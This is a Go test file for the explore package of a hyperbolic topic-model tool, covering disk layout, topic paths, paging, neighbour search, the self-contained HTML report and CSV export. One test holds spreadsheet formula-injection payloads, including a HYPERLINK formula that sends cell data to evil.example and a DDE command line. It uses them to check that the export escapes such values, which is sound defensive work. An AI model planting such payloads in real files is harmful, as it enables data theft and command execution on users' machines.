package explore

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/gtformer/gtformer/corpus"
	"github.com/gtformer/gtformer/corpus/synth"
	"github.com/gtformer/gtformer/model"
	"github.com/gtformer/gtformer/npy"
)

var fix struct {
	once sync.Once
	m    *model.Model
	g    *corpus.Graph
	emb  *model.Embeddings
	ix   *Index
	err  error
}

// fixture is an untrained model (width 8, curvature 1.5 so that K enters
// every formula) on a small planted-tree corpus, its embeddings through
// every link, and their index.
func fixture(t testing.TB) *Index {
	t.Helper()
	fix.once.Do(func() {
		cfg := synth.Default()
		cfg.Docs, cfg.Links, cfg.Seed = 240, 480, 3
		g, _, err := synth.Generate(cfg)
		if err != nil {
			fix.err = err
			return
		}
		mc := model.Default()
		mc.Width, mc.Layers, mc.Heads, mc.MLPHidden, mc.MaxLen, mc.Curvature = 8, 2, 2, 16, 16, 1.5
		mc.Vocab = len(g.Vocab)
		m, err := model.New(mc, 2)
		if err != nil {
			fix.err = err
			return
		}
		if fix.err = m.Prepare(g, corpus.PaperSplit(g).Train, 2); fix.err != nil {
			return
		}
		all := make([]int32, g.NumDocs())
		for i := range all {
			all[i] = int32(i)
		}
		nbrs := func(i int32) []int32 { return g.Neighbors(int(i)) }
		fix.m, fix.g = m, g
		fix.emb = m.Embed(m.Inputs(g, nbrs), all, nbrs, 64, 128)
		fix.ix, fix.err = New(m, g, fix.emb)
	})
	if fix.err != nil {
		t.Fatal(fix.err)
	}
	return fix.ix
}

// hypDist is the hyperbolic distance computed independently of package
// lorentz, in float64 from the spatial coordinates: x0 = √(K + |x_s|²),
// d = √K · arcosh((x0·y0 − x_s·y_s)/K).
func hypDist(x, y []float32, K float64) float64 {
	var xs, ys, xy float64
	for j := 1; j < len(x); j++ {
		xs += float64(x[j]) * float64(x[j])
		ys += float64(y[j]) * float64(y[j])
		xy += float64(x[j]) * float64(y[j])
	}
	c := (math.Sqrt(K+xs)*math.Sqrt(K+ys) - xy) / K
	return math.Sqrt(K) * math.Acosh(math.Max(c, 1))
}

// TestLayoutRadius: every point of the disk sits at tanh(d(o,x)/2√K) from
// the centre, d(o,x) its hyperbolic distance from the origin.
func TestLayoutRadius(t *testing.T) {
	ix := fixture(t)
	K := ix.m.Cfg.Curvature
	origin := make([]float32, ix.m.Cfg.Width+1)
	origin[0] = float32(math.Sqrt(K))
	lo := ix.Layout(50)
	if len(lo.Docs) != 50 || lo.Total != ix.NumDocs() {
		t.Fatalf("%d docs of %d", len(lo.Docs), lo.Total)
	}
	for _, p := range lo.Docs {
		i, _ := ix.DocIndex(p.ID)
		want := math.Tanh(hypDist(ix.Point(i), origin, K) / (2 * math.Sqrt(K)))
		if got := math.Hypot(p.X, p.Y); math.Abs(got-want) > 1e-4 {
			t.Errorf("document %s at radius %.6f, want %.6f", p.ID, got, want)
		}
	}
	total := 0
	for _, c := range lo.Density.Counts {
		total += c
	}
	if total != ix.NumDocs() {
		t.Errorf("density counts %d documents, want %d", total, ix.NumDocs())
	}
	if len(lo.Topics) != len(ix.Tree().Nodes) || lo.ColorBy != "label" || len(lo.Colors) != len(ix.g.LabelNames) {
		t.Errorf("%d topics, colour by %q with %d colours", len(lo.Topics), lo.ColorBy, len(lo.Colors))
	}
	// A smaller sample is part of a larger one, and the same every call.
	small := ix.Sample(10)
	big := ix.Sample(50)
	for _, d := range small {
		if !slices.Contains(big, d) {
			t.Errorf("document %d of the small sample is not in the large one", d)
		}
	}
	if !slices.Equal(small, ix.Sample(10)) {
		t.Error("the sample changes between calls")
	}
}

// TestPrincipalAxes against directions known by construction: most points
// along ±e2, fewer along ±e0, none along e1 (mean direction 0). A common
// offset is removed before the axes are taken: shifted directions give the
// same axes.
func TestPrincipalAxes(t *testing.T) {
	var x []float32
	for k := 0; k < 30; k++ {
		s := float32(1 + k%3)
		if k%2 == 1 {
			s = -s
		}
		x = append(x, 0, 0, s) // along e2
		if k < 10 {
			x = append(x, 2*s, 0, 0) // along e0
		}
	}
	x = append(x, 0, 0, 0) // a zero row is skipped
	ax, mean := principalAxes(x, 3)
	for _, m := range mean {
		if math.Abs(m) > 1e-12 {
			t.Errorf("mean direction %v, want 0", mean)
		}
	}
	want := [2][]float64{{0, 0, 1}, {1, 0, 0}}
	for a := range ax {
		for j := range ax[a] {
			if math.Abs(ax[a][j]-want[a][j]) > 1e-9 {
				t.Fatalf("axes %v, want %v", ax, want)
			}
		}
	}
	// Every direction tilted toward e1 by the same amount: the mean moves
	// along e1, the spread (and so the axes) stays in the e0-e2 plane.
	var y []float32
	for r := 0; r+3 <= len(x); r += 3 {
		if x[r] == 0 && x[r+2] == 0 {
			continue
		}
		n := float32(math.Hypot(float64(x[r]), float64(x[r+2])))
		y = append(y, x[r]/n, 0.5, x[r+2]/n)
	}
	ax, mean = principalAxes(y, 3)
	if mean[1] < 0.4 || math.Abs(ax[0][1]) > 1e-9 || math.Abs(ax[1][1]) > 1e-9 {
		t.Errorf("tilted: mean %v, axes %v: the axes should lie in the e0-e2 plane", mean, ax)
	}
}

// TestPathAndCounts: each step of a document's path goes to the child
// with the largest subtree θ mass, and paths end at leaves; the root's
// count is every document and the leaves' counts add up to it.
func TestPathAndCounts(t *testing.T) {
	ix := fixture(t)
	nodes := ix.Tree().Nodes
	byID := map[int]Node{}
	for _, n := range nodes {
		byID[n.ID] = n
	}
	T := len(nodes)
	var mass func(th []float32, id int) float64
	mass = func(th []float32, id int) float64 {
		s := float64(th[ix.rowOf[id]])
		for _, c := range byID[id].Children {
			s += mass(th, c)
		}
		return s
	}
	for i := 0; i < ix.NumDocs(); i++ {
		th := ix.emb.Theta[i*T : (i+1)*T]
		p := ix.Path(th)
		if p[0] != nodes[0].ID || len(byID[p[len(p)-1]].Children) != 0 {
			t.Fatalf("document %d: path %v does not run from the root to a leaf", i, p)
		}
		for k := 1; k < len(p); k++ {
			for _, c := range byID[p[k-1]].Children {
				if mass(th, c) > mass(th, p[k])+1e-12 {
					t.Fatalf("document %d: path %v steps to %d, child %d holds more", i, p, p[k], c)
				}
			}
		}
	}
	leaves := 0
	for _, n := range nodes {
		if len(n.Children) == 0 {
			leaves += n.Docs
		}
	}
	if nodes[0].Docs != ix.NumDocs() || leaves != ix.NumDocs() {
		t.Errorf("root %d documents, leaves %d, want %d", nodes[0].Docs, leaves, ix.NumDocs())
	}
}

// TestTopicPaging: pages of a topic's documents put together are the
// whole ranking, which is θ_t descending.
func TestTopicPaging(t *testing.T) {
	ix := fixture(t)
	T := len(ix.nodes)
	for _, n := range ix.Tree().Nodes[:4] {
		r := ix.rowOf[n.ID]
		var got []string
		var last = math.Inf(1)
		cursor := 0
		for pages := 0; ; pages++ {
			p, err := ix.Topic(n.ID, cursor, 7)
			if err != nil {
				t.Fatal(err)
			}
			for _, d := range p.Documents {
				if d.Theta > last {
					t.Fatalf("topic %d: θ rises from %v to %v", n.ID, last, d.Theta)
				}
				last = d.Theta
				got = append(got, d.ID)
			}
			if p.Next == "" {
				break
			}
			fmt.Sscan(p.Next, &cursor)
		}
		idx := make([]int, ix.NumDocs())
		for i := range idx {
			idx[i] = i
		}
		sort.SliceStable(idx, func(a, b int) bool { return ix.emb.Theta[idx[a]*T+r] > ix.emb.Theta[idx[b]*T+r] })
		want := make([]string, len(idx))
		for k, i := range idx {
			want[k] = ix.DocID(i)
		}
		if !slices.Equal(got, want) {
			t.Errorf("topic %d: pages give %d documents, not the ranking of %d", n.ID, len(got), len(want))
		}
	}
	if _, err := ix.Topic(9999, 0, 5); err == nil {
		t.Error("no error for an unknown topic")
	}
	if _, err := ix.Topic(0, ix.NumDocs()+1, 5); err == nil {
		t.Error("no error for a cursor past the end")
	}
}

// TestNeighbors against a brute-force search with the independent
// distance.
func TestNeighbors(t *testing.T) {
	ix := fixture(t)
	K := ix.m.Cfg.Curvature
	for _, q := range []int{0, 17, 101} {
		got := ix.Neighbors(ix.Point(q), 10, q)
		type cand struct {
			i int
			d float64
		}
		var all []cand
		for i := 0; i < ix.NumDocs(); i++ {
			if i != q {
				all = append(all, cand{i, hypDist(ix.Point(q), ix.Point(i), K)})
			}
		}
		sort.SliceStable(all, func(a, b int) bool { return all[a].d < all[b].d })
		for k, nb := range got {
			if math.Abs(nb.Distance-all[k].d) > 1e-3*math.Max(1, all[k].d) {
				t.Errorf("query %d rank %d: distance %v, reference %v", q, k, nb.Distance, all[k].d)
			}
			if nb.ID == ix.DocID(q) {
				t.Errorf("query %d is its own neighbour", q)
			}
		}
		doc, err := ix.Document(ix.DocID(q))
		if err != nil || len(doc.Nearest) != Nearest || len(doc.Topics) != DocTopics {
			t.Errorf("document %d: %v %+v", q, err, doc)
		}
	}
}

// TestWords: a topic's words are topics.json's (outputs.Topics): by
// weight, and by relevance to the parent with lift β_t(w)/β_parent(w)
// (none for the root); a word search puts first the topic where the word
// ranks 1.
func TestWords(t *testing.T) {
	ix := fixture(t)
	V := len(ix.g.Vocab)
	for _, n := range ix.Tree().Nodes {
		tp, err := ix.Topic(n.ID, 0, 1)
		if err != nil {
			t.Fatal(err)
		}
		if len(tp.ByWeight) != 20 || tp.ByWeight[0].Word != n.Words[0].Word {
			t.Fatalf("topic %d: %d words by weight", n.ID, len(tp.ByWeight))
		}
		if n.Parent < 0 {
			if len(tp.ByLift) != 0 {
				t.Errorf("the root has %d words by lift", len(tp.ByLift))
			}
		} else if len(tp.ByLift) != 20 {
			t.Errorf("topic %d: %d words by lift", n.ID, len(tp.ByLift))
		}
		for _, w := range tp.ByLift {
			wi := slices.Index(ix.g.Vocab, w.Word)
			ref := float64(ix.beta[ix.rowOf[n.Parent]*V+wi])
			if math.Abs(w.Lift-w.Weight/ref) > 1e-5*w.Lift {
				t.Errorf("topic %d word %q: lift %v, want %v", n.ID, w.Word, w.Lift, w.Weight/ref)
			}
		}
		wt, err := ix.Word(strings.ToUpper(n.Words[0].Word), 3)
		if err != nil || wt.Topics[0].Rank != 1 {
			t.Errorf("word %q: %v %+v", n.Words[0].Word, err, wt)
		}
	}
	if _, err := ix.Word("notaword", 3); err == nil {
		t.Error("no error for a word outside the vocabulary")
	}
	s := ix.Search(" 12 ", 3)
	if s.Document == nil || s.Document.ID != "12" || s.Word != nil {
		t.Errorf("search 12: %+v", s)
	}
}

// TestReport: the report inlines the page's script and style and its
// data, loads nothing from elsewhere, and holds the documents of the
// sample only.
func TestReport(t *testing.T) {
	ix := fixture(t)
	var buf bytes.Buffer
	if err := ix.Report(&buf, ReportOptions{MaxDocs: 30, TopicDocs: 5, WordsPerTopic: 10}); err != nil {
		t.Fatal(err)
	}
	html := buf.String()
	for _, bad := range []string{`src="`, `href="http`, `href="assets`, "url(", "@import"} {
		if strings.Contains(html, bad) {
			t.Errorf("the report holds %q: it would reach outside the file", bad)
		}
	}
	start := strings.Index(html, `<script id="gtformer-data" type="application/json">`)
	end := strings.Index(html[start:], "</script>")
	if start < 0 || end < 0 {
		t.Fatal("no data element")
	}
	var data reportData
	raw := html[start+len(`<script id="gtformer-data" type="application/json">`) : start+end]
	if err := json.Unmarshal([]byte(raw), &data); err != nil {
		t.Fatal(err)
	}
	docs := 0
	for k := range data.Responses {
		if strings.HasPrefix(k, "/v1/documents/") {
			docs++
		}
	}
	// The sample's documents, and every document a topic panel lists (a
	// listed document must open, sampled or not).
	want := map[string]bool{}
	for _, i := range ix.Sample(30) {
		want[ix.DocID(i)] = true
	}
	for _, n := range ix.Tree().Nodes {
		tp, err := ix.Topic(n.ID, 0, 5) // TopicDocs above
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range tp.Documents {
			want[d.ID] = true
			if _, ok := data.Responses["/v1/documents/"+d.ID]; !ok {
				t.Errorf("topic %d lists document %s, which the report cannot open", n.ID, d.ID)
			}
		}
	}
	if data.Sampled != 30 || docs != len(want) || data.Total != ix.NumDocs() {
		t.Errorf("sampled %d, %d document answers (want %d: the sample and the listed), total %d", data.Sampled, docs, len(want), data.Total)
	}
	for _, n := range ix.Tree().Nodes {
		if _, ok := data.Responses[fmt.Sprintf("/v1/topics/%d", n.ID)]; !ok {
			t.Errorf("topic %d missing", n.ID)
		}
		if _, ok := data.Responses["/v1/words/"+n.Words[0].Word]; !ok {
			t.Errorf("word %q missing", n.Words[0].Word)
		}
	}
	if csv := data.Responses["/v1/export/doc-topics.csv"].(string); strings.Count(csv, "\n") != 31 {
		t.Errorf("CSV has %d lines, want 31", strings.Count(csv, "\n"))
	}
}

// TestWriteReportReplaces only an earlier report.
func TestWriteReportReplaces(t *testing.T) {
	ix := fixture(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "r.html")
	opt := ReportOptions{MaxDocs: 5}
	if err := ix.WriteReport(path, opt); err != nil {
		t.Fatal(err)
	}
	if err := ix.WriteReport(path, opt); err != nil {
		t.Errorf("replacing a report: %v", err)
	}
	other := filepath.Join(dir, "o.html")
	os.WriteFile(other, []byte("not ours"), 0o644)
	if err := ix.WriteReport(other, opt); err == nil || !strings.Contains(err.Error(), "not a gtformer report") {
		t.Errorf("over another file: %v", err)
	}
	if err := ix.WriteReport(dir, opt); err == nil {
		t.Error("no error writing over a directory")
	}
	if err := ix.WriteReport(filepath.Join(dir, "x.html"), ReportOptions{MaxDocs: -1}); err == nil {
		t.Error("no error for a negative size")
	}
}

// TestOpenEmbeddings: Open reads the run's files when they fit the corpus
// and computes the embeddings when they do not.
func TestOpenEmbeddings(t *testing.T) {
	ix := fixture(t)
	dir := t.TempDir()
	if err := ix.m.Save(dir, 1); err != nil {
		t.Fatal(err)
	}
	N, c, T := ix.NumDocs(), ix.m.Cfg.Width+1, len(ix.nodes)
	npy.Write(filepath.Join(dir, "doc_embeddings.npy"), []int{N, c}, ix.emb.Points)
	npy.Write(filepath.Join(dir, "doc_topics.npy"), []int{N, T}, ix.emb.Theta)
	got, err := Open(dir, ix.m, ix.g)
	if err != nil || got.Info().Embeddings != "doc_embeddings.npy" || len(got.Info().ModelSHA256) != 64 {
		t.Fatalf("%v %+v", err, got.Info())
	}
	npy.Write(filepath.Join(dir, "doc_topics.npy"), []int{N - 1, T}, ix.emb.Theta[:(N-1)*T])
	got, err = Open(dir, ix.m, ix.g)
	if err != nil || got.Info().Embeddings != "computed" {
		t.Fatalf("%v %+v", err, got.Info())
	}
	if !slices.Equal(got.emb.Points, ix.emb.Points) {
		t.Error("computed embeddings differ from Embed through every link")
	}
	if _, err := Open(t.TempDir(), ix.m, ix.g); err == nil {
		t.Error("no error for a folder without weights")
	}
}

func BenchmarkNeighbors(b *testing.B) {
	ix := fixture(b)
	b.Run(fmt.Sprintf("docs=%d", ix.NumDocs()), func(b *testing.B) {
		for i := 0; b.Loop(); i++ {
			ix.Neighbors(ix.Point(i%ix.NumDocs()), Nearest, -1)
		}
	})
}

func BenchmarkDocument(b *testing.B) {
	ix := fixture(b)
	b.Run(fmt.Sprintf("docs=%d", ix.NumDocs()), func(b *testing.B) {
		for i := 0; b.Loop(); i++ {
			ix.Document(ix.DocID(i % ix.NumDocs()))
		}
	})
}

// TestLayoutWithoutLabels: an unlabelled corpus colours documents by the
// level-1 topic of their path, one class per child of the root.
func TestLayoutWithoutLabels(t *testing.T) {
	ix := fixture(t)
	g := *ix.g
	g.Labels, g.LabelNames = nil, nil
	un, err := New(ix.m, &g, ix.emb)
	if err != nil {
		t.Fatal(err)
	}
	lo := un.Layout(40)
	root := un.Tree().Nodes[0]
	if lo.ColorBy != "topic" || len(lo.Colors) != len(root.Children) {
		t.Fatalf("colour by %q with %v", lo.ColorBy, lo.Colors)
	}
	for _, p := range lo.Docs {
		i, _ := un.DocIndex(p.ID)
		path := un.Path(un.theta(i))
		if p.Color < 0 || root.Children[p.Color] != path[1] {
			t.Errorf("document %s: colour %d, path %v", p.ID, p.Color, path)
		}
	}
	if d, _ := un.Document("3"); d.Label != "" {
		t.Errorf("label %q without labels", d.Label)
	}
}

// TestDocTopicsCSVInjection: ids and labels that a spreadsheet would run
// as formulas are written with a leading single quote, in the CSV the
// server exports and the one a report inlines; numeric columns and safe
// text are written as they are.
func TestDocTopicsCSVInjection(t *testing.T) {
	ix := fixture(t)
	g := *ix.g
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|" /C calc"!A0`, `@SUM(1+1)`, `-1`, "\tx", "\rx"}
	g.DocIDs = make([]string, g.NumDocs())
	for i := range g.DocIDs {
		g.DocIDs[i] = "doc" + strconv.Itoa(i)
	}
	copy(g.DocIDs, evil)
	g.LabelNames = append([]string{`=1+1`}, g.LabelNames[1:]...)
	inj, err := New(ix.m, &g, ix.emb)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := inj.WriteDocTopicsCSV(&b, nil); err != nil {
		t.Fatal(err)
	}
	var rep strings.Builder
	if err := inj.Report(&rep, ReportOptions{MaxDocs: g.NumDocs(), TopicDocs: 1, WordsPerTopic: 1}); err != nil {
		t.Fatal(err)
	}
	reportCSV := reportResponses(t, rep.String())["/v1/export/doc-topics.csv"].(string)
	for name, text := range map[string]string{"export": b.String(), "report": reportCSV} {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		byID := map[string][]string{}
		for _, r := range rows[1:] {
			byID[r[0]] = r
		}
		for _, id := range evil {
			r, ok := byID["'"+id]
			if !ok {
				t.Errorf("%s: no row with id %q quoted", name, id)
				continue
			}
			if _, err := strconv.Atoi(r[2]); err != nil {
				t.Errorf("%s: top_topic %q is not a bare number", name, r[2])
			}
			if _, err := strconv.ParseFloat(r[3], 64); err != nil {
				t.Errorf("%s: top_theta %q is not a bare number", name, r[3])
			}
		}
		if _, ok := byID["doc10"]; !ok {
			t.Errorf("%s: the safe id doc10 is not written as it is", name)
		}
		for _, r := range rows[1:] {
			if c := r[1]; c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
				t.Errorf("%s: label cell %q starts a formula", name, c)
			}
		}
	}
}

// reportResponses returns the API answers a report inlines.
func reportResponses(t *testing.T, html string) map[string]any {
	t.Helper()
	const open = `<script id="gtformer-data" type="application/json">`
	_, rest, ok := strings.Cut(html, open)
	data, _, ok2 := strings.Cut(rest, "</script>")
	if !ok || !ok2 {
		t.Fatal("the report holds no data element")
	}
	var d struct{ Responses map[string]any }
	if err := json.Unmarshal([]byte(data), &d); err != nil {
		t.Fatal(err)
	}
	return d.Responses
}
